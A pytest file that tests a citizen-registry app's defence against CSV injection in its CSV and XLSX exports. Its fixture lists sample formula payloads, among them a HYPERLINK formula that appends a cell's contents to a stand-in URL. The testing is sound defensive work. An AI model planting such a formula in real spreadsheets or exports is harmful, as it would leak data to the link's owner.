"""Exports never carry a live formula (CSV injection), and our own exports re-import unchanged."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from cancuoc.imports import services
from cancuoc.imports.exporting import citizens_for_export, write_csv, write_xlsx
from cancuoc.registry.models import Citizen

HEADER = "Số định danh,Họ và tên,Ngày sinh,Giới tính,Mã xã thường trú,Địa chỉ thường trú,Tôn giáo,Dân tộc\n"
HOSTILE = {
    "034090000001": '=HYPERLINK("http://x/?"&A1,"Xem")',
    "034090000002": "=1+2",
    "034090000003": "@SUM(1+1)",
    "034090000004": "+84 912 345 678",
    "034090000005": "-",
    "034090000006": "'=quoted already",
    "034090000007": "'ordinary apostrophe",
}


@pytest.fixture
def registry(tmp_path, officers):
    # raw formula-like text is imported as text; an apostrophe before a formula trigger is taken as our
    # export's quote, so a value that really starts with "'=" is written "''=" (docs/import-format.md)
    written = {**HOSTILE, "034090000006": "''=quoted already"}
    lines = [
        f'{number},Nguyễn Văn An,15/03/1990,Nam,12730,"{value.replace(chr(34), 2 * chr(34))}",Không,Kinh'
        for number, value in written.items()
    ]
    path = tmp_path / "in.csv"
    path.write_text(HEADER + "\n".join(lines) + "\n", encoding="utf-8")
    job = services.apply_job(
        services.validate_job(services.create_job(officers["thai_thuy"], path, "in.csv"))
    )
    assert (job.status, job.created_count) == ("applied", 7)
    stored = dict(Citizen.objects.values_list("id_number", "permanent_address"))
    assert stored == HOSTILE  # a CSV cell is text: imported as it is
    return officers["thai_thuy"]


def test_csv_export_neutralises_formula_like_values(tmp_path, registry):
    out = io.StringIO()
    write_csv(citizens_for_export(registry, None), out)
    rows = {row[0]: row for row in csv.reader(io.StringIO(out.getvalue()))}
    header = next(iter(rows.values()))
    address = header.index("Địa chỉ thường trú")
    religion = header.index("Tôn giáo")
    assert {number: rows[number][address] for number in HOSTILE} == {
        "034090000001": '\'=HYPERLINK("http://x/?"&A1,"Xem")',
        "034090000002": "'=1+2",
        "034090000003": "'@SUM(1+1)",
        "034090000004": "'+84 912 345 678",
        "034090000005": "'-",
        "034090000006": "''=quoted already",
        "034090000007": "'ordinary apostrophe",
    }
    assert rows["034090000005"][religion] == "Không"  # religion comes from the official list (issue 8)
    assert not any(cell[:1] in "=+-@\t\r" and cell for row in rows.values() for cell in row)


def test_xlsx_export_writes_text_cells_never_formulas(tmp_path, registry):
    path = tmp_path / "out.xlsx"
    write_xlsx(citizens_for_export(registry, None), path)
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    workbook = load_workbook(path)  # not read-only: openpyxl's own typing of every cell
    cells = {row[0].value: row for row in workbook.active.iter_rows(min_row=2)}
    address = [c.value for c in next(workbook.active.iter_rows(max_row=1))].index("Địa chỉ thường trú")
    for number, value in HOSTILE.items():
        cell = cells[number][address]
        assert (cell.value, cell.data_type) == (value, "s")
    assert cells["034090000002"][address].quotePrefix  # Excel keeps it text even when the cell is edited


@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
def test_our_exports_reimport_unchanged(tmp_path, registry, name):
    path = tmp_path / name
    if name.endswith(".xlsx"):
        write_xlsx(citizens_for_export(registry, None), path)
    else:
        with open(path, "w", encoding="utf-8-sig", newline="") as handle:
            write_csv(citizens_for_export(registry, None), handle)
    job = services.validate_job(services.create_job(registry, path, name))
    assert (job.rejected_rows, job.created_count, job.updated_count, job.unchanged_count) == (0, 0, 0, 7)
    services.apply_job(job)
    assert dict(Citizen.objects.values_list("id_number", "permanent_address")) == HOSTILE
    assert set(Citizen.objects.values_list("religion", flat=True)) == {"Không"}


def test_error_report_cells_are_inert(client, tmp_path, officers):
    path = tmp_path / "in.csv"
    path.write_text(
        HEADER.replace("Tôn giáo", "Quan hệ với chủ hộ") + "034090000001,A,15/03/1990,Nam,12730,x,y,z\n"
    )
    job = services.validate_job(services.create_job(officers["thai_thuy"], path, "in.csv"))
    client.force_login(officers["thai_thuy"])
    report = client.get(f"/imports/{job.pk}/errors.csv").content.decode().lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
    assert cells and not any(cell[:1] in "=+-@" and cell for cell in cells)
